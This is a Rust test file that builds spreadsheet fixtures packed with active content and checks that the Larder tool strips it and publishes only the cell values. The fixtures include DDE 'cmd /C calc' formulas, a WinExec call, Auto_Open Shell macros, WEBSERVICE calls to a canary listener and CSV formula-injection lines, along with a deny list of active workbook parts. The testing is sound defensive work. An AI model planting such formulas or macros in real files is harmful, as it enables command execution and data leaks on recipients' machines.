//! Spreadsheets with something in them that acts: macros, links to other files and servers, commands, embedded objects. Larder
//! takes the values out of them, and nothing else goes any further.

use std::fs;
use std::io::{Cursor, Read, Write};
use std::net::{Ipv4Addr, TcpListener};
use std::path::{Path, PathBuf};

use serde_json::json;
use zip::write::SimpleFileOptions;

use crate::land::Land;

/// Stands in everything that must not travel.
const CANARY: &str = "CANARY-7f3a";
/// What only spreadsheets with something active have.
const ACTIVE_PARTS: [&str; 9] = [
    "vbaproject",
    "externallinks",
    "embeddings",
    "connections",
    "querytables",
    "activex",
    "customui",
    "macrosheets",
    "basic/",
];

/// Who would be asked if anything of it were followed.
struct Outside(TcpListener);

impl Outside {
    fn listens() -> Outside {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        listener.set_nonblocking(true).unwrap();
        Outside(listener)
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}/{CANARY}", self.0.local_addr().unwrap().port())
    }

    fn was_asked(&self) -> bool {
        self.0.accept().is_ok()
    }
}

fn zipped(parts: &[(&str, String)]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content) in parts {
        zip.start_file(*name, SimpleFileOptions::default()).unwrap();
        zip.write_all(content.as_bytes()).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// Cells as texts, each with what it would do.
fn sheet(url: &str) -> String {
    let formulas = [
        format!("cmd|'/C calc {CANARY}'!A0"),
        format!("[1]{CANARY}!A1"),
        format!("WEBSERVICE(\"{url}\")"),
        format!("HYPERLINK(\"{url}\",\"press\")"),
        format!("CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"{CANARY}\",0)"),
    ];
    let row = |(i, formula): (usize, &String)| {
        let formula = formula.replace('"', "&quot;");
        let n = i + 2;
        format!(
            "<row r=\"{n}\"><c r=\"A{n}\" t=\"str\"><f>{formula}</f><v>rye {i}</v></c>\
             <c r=\"B{n}\"><f>SUM([1]{CANARY}!B1)</f><v>{n}</v></c></row>"
        )
    };
    format!(
        "<worksheet><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>Article</t></is></c>\
         <c r=\"B1\" t=\"inlineStr\"><is><t>Sold</t></is></c></row>{}</sheetData>\
         <hyperlinks><hyperlink ref=\"A2\" r:id=\"r1\"/></hyperlinks><oleObjects><oleObject progId=\"Package\" \
         link=\"[1]!{CANARY}\" r:id=\"r2\"/></oleObjects></worksheet>",
        formulas.iter().enumerate().map(row).collect::<String>()
    )
}

/// A workbook with macros, and everything else that acts.
fn xlsm(url: &str) -> Vec<u8> {
    let external = format!("Target=\"{url}\" TargetMode=\"External\"");
    zipped(&[
        ("[Content_Types].xml", "<Types><Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>".into()),
        ("_rels/.rels", "<Relationships><Relationship Id=\"r\" Type=\"x/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>".into()),
        ("xl/workbook.xml", format!("<workbook><sheets><sheet name=\"S\" sheetId=\"1\" r:id=\"r1\"/></sheets><externalReferences><externalReference r:id=\"r2\"/></externalReferences><definedNames><definedName name=\"Auto_Open\">{CANARY}</definedName></definedNames></workbook>")),
        ("xl/_rels/workbook.xml.rels", format!("<Relationships><Relationship Id=\"r1\" Type=\"x/worksheet\" Target=\"worksheets/sheet1.xml\"/><Relationship Id=\"r2\" Type=\"x/externalLink\" Target=\"externalLinks/externalLink1.xml\"/><Relationship Id=\"r3\" Type=\"x/vbaProject\" Target=\"vbaProject.bin\"/><Relationship Id=\"r4\" Type=\"x/attachedTemplate\" {external}/></Relationships>")),
        ("xl/worksheets/sheet1.xml", sheet(url)),
        ("xl/worksheets/_rels/sheet1.xml.rels", format!("<Relationships><Relationship Id=\"r1\" Type=\"x/hyperlink\" {external}/><Relationship Id=\"r2\" Type=\"x/oleObject\" Target=\"../embeddings/oleObject1.bin\"/></Relationships>")),
        ("xl/externalLinks/externalLink1.xml", format!("<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/C calc {CANARY}\"/></externalLink>")),
        ("xl/externalLinks/_rels/externalLink1.xml.rels", format!("<Relationships><Relationship Id=\"r1\" Type=\"x/externalLinkPath\" {external}/></Relationships>")),
        ("xl/connections.xml", format!("<connections><connection id=\"1\" refreshOnLoad=\"1\"><webPr url=\"{url}\"/></connection></connections>")),
        ("xl/vbaProject.bin", format!("Sub Auto_Open() Shell \"{CANARY}\" End Sub")),
        ("xl/embeddings/oleObject1.bin", format!("MZ {CANARY}")),
        ("xl/activeX/activeX1.bin", CANARY.into()),
        ("customUI/customUI.xml", format!("<customUI onLoad=\"{CANARY}\"/>")),
    ])
}

/// The same in the other office's format.
fn ods(url: &str) -> Vec<u8> {
    let row = |i: usize, formula: &str| {
        format!(
            "<table:table-row><table:table-cell office:value-type=\"string\" table:formula=\"{formula}\">\
             <text:p>rye {i}</text:p></table:table-cell><table:table-cell office:value-type=\"float\" office:value=\"{n}\">\
             <text:p>{n}</text:p></table:table-cell></table:table-row>",
            n = i + 2
        )
    };
    let formulas = [
        format!("of:=DDE(&quot;cmd&quot;;&quot;/C calc {CANARY}&quot;;&quot;A0&quot;)"),
        format!("of:=WEBSERVICE(&quot;{url}&quot;)"),
        format!("of:=['{url}'#$S.A1]"),
        format!("of:=HYPERLINK(&quot;{url}&quot;)"),
        format!("of:=MACRO(&quot;{CANARY}&quot;)"),
    ];
    let rows: String = formulas.iter().enumerate().map(|(i, formula)| row(i, formula)).collect();
    let content = format!(
        "<office:document-content><office:scripts><office:event-listeners><script:event-listener \
         script:event-name=\"dom:load\" xlink:href=\"vnd.sun.star.script:{CANARY}\"/></office:event-listeners></office:scripts>\
         <office:body><office:spreadsheet><table:table table:name=\"S\"><table:table-source xlink:href=\"{url}\"/>\
         <table:table-row><table:table-cell office:value-type=\"string\"><text:p>Article</text:p></table:table-cell>\
         <table:table-cell office:value-type=\"string\"><text:p>Sold</text:p></table:table-cell></table:table-row>{rows}\
         </table:table><table:dde-links><table:dde-link><office:dde-source office:dde-application=\"cmd\" \
         office:dde-topic=\"{CANARY}\"/></table:dde-link></table:dde-links></office:spreadsheet></office:body>\
         </office:document-content>"
    );
    zipped(&[
        ("mimetype", "application/vnd.oasis.opendocument.spreadsheet".into()),
        ("content.xml", content),
        ("Basic/Standard/Module1.xml", format!("<script:module>Shell \"{CANARY}\"</script:module>")),
        ("Object 1/content.xml", format!("<draw:object xlink:href=\"{url}\"/>")),
    ])
}

fn files_below(folder: &Path) -> Vec<PathBuf> {
    let entries = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    entries.flat_map(|path| if path.is_dir() { files_below(&path) } else { vec![path] }).collect()
}

/// Nothing that acts is in a file, packed or not. Answers how many parts of workbooks were looked at.
fn holds_nothing_active(path: &Path) -> usize {
    let bytes = fs::read(path).unwrap();
    let shown = path.display();
    let plain = |bytes: &[u8]| !bytes.windows(CANARY.len()).any(|window| window == CANARY.as_bytes());
    assert!(plain(&bytes), "{shown}");
    let Ok(mut archive) = zip::ZipArchive::new(Cursor::new(bytes)) else { return 0 };
    for at in 0..archive.len() {
        let mut part = archive.by_index(at).unwrap();
        let name = part.name().to_lowercase();
        assert!(!ACTIVE_PARTS.iter().any(|active| name.contains(active)), "{shown}: {name}");
        let mut content = Vec::new();
        part.read_to_end(&mut content).unwrap();
        let text = String::from_utf8_lossy(&content);
        assert!(plain(&content) && !text.contains("<f>") && !text.contains("<f "), "{shown}: {name}");
        assert!(!text.to_lowercase().contains("macroenabled"), "{shown}: {name}");
    }
    archive.len()
}

// fault 65
#[test]
fn what_acts_in_a_spreadsheet_is_neither_run_nor_followed_nor_published() {
    let outside = Outside::listens();
    let land = Land::new();
    let anna = land.person("anna", "Anna");
    let commands =
        format!("Article,Sold\n=cmd|'/C calc'!A0,2\n\"=HYPERLINK(\"\"{0}\"\")\",3\n+1+1,4\n@SUM(1),5\n-2+3,6\n", "x");
    for (name, bytes, rows) in [
        ("till.xlsm", xlsm(&outside.url()), 5),
        ("till under another name.xlsx", xlsm(&outside.url()), 5),
        ("till.ods", ods(&outside.url()), 5),
        ("till.csv", commands.into_bytes(), 5),
    ] {
        let path = land.folder.path().join(name);
        fs::write(&path, &bytes).unwrap();
        let draft = anna.drop_file(&path);
        let title = name.replace('.', " ");
        anna.describe(&draft, json!({"title": title, "summary": "A small list.", "area": "Office"}));
        let product = anna.publish(&draft).unwrap();
        anna.until_shelf_shows(&title);
        assert_eq!(anna.page(&product).card.profile.rows, rows, "{name}: the values are there");
    }
    let mut parts = 0;
    for path in files_below(&land.share()) {
        parts += holds_nothing_active(&path);
    }
    assert!(parts >= 4 * 5, "the workbooks that Larder made were looked into: {parts} parts");
    assert!(!outside.was_asked(), "nobody was asked for anything");
}
